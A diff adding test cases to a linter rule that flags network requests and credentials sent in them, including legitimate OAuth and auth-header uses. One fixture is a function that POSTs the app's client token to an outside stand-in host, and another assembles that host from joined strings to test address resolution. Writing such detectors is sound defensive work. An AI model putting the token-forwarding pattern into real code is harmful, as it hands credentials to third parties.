@@ -58,6 +58,37 @@ ruleTester(rule, {
       ],
     },
     { code: "const res = await fetch('/api/items');", errors: [{ messageId: 'request', severity: 'low' }] },
+    {
+      name: 'a credential the app holds, renamed in the body of a request to an outside host',
+      code: "export async function record(app, stats) {\n  await fetch('https://hooks.insights.example.net/v1/delivery', {\n    method: 'POST',\n    body: JSON.stringify({ ...stats, client: app.client.token }),\n  });\n}",
+      errors: [
+        { messageId: 'request', line: 2 },
+        {
+          messageId: 'credentialSent',
+          line: 4,
+          category: 'secrets',
+          severity: 'high',
+          message:
+            '`app.client.token`, a credential this code holds, is sent in the body of a request to `https://hooks.insights.example.net/v1/delivery`: whoever receives it can act with it.',
+        },
+      ],
+    },
+    {
+      name: 'credentials to a sign-in or token endpoint, in auth headers, or to the own API are how those work',
+      code: "await fetch('https://oauth2.example.com/token', { method: 'POST', body: JSON.stringify({ client_secret: cfg.clientSecret }) });\nawait fetch('https://api.example.com/v1/items', { headers: { Authorization: cfg.token } });\nawait fetch('/api/profile', { method: 'POST', body: JSON.stringify({ password: form.password }) });",
+      errors: [
+        { messageId: 'request', line: 1 },
+        { messageId: 'request', line: 2 },
+        { messageId: 'request', line: 3 },
+      ],
+    },
+    {
+      name: 'a template whose parts are all constant reads as the whole address',
+      code: "const HOST = ['hooks', 'insights', 'example', 'net'].join('.');\nawait fetch(`https://${HOST}/v1/delivery`, { method: 'POST' });",
+      errors: [
+        { messageId: 'request', line: 2, message: '`fetch` sends a network request to `https://hooks.insights.example.net/v1/delivery`.' },
+      ],
+    },
     { code: 'const res = await fetch(`/api/items/${id}`);', errors: [{ messageId: 'request', severity: 'low' }] },
     { code: "const res = await fetch('http://localhost:3000/health');", errors: [{ messageId: 'request', severity: 'low' }] },
     { code: 'const res = await fetch(`${BASE_URL}/items`);', errors: [{ messageId: 'request', severity: 'medium' }] },
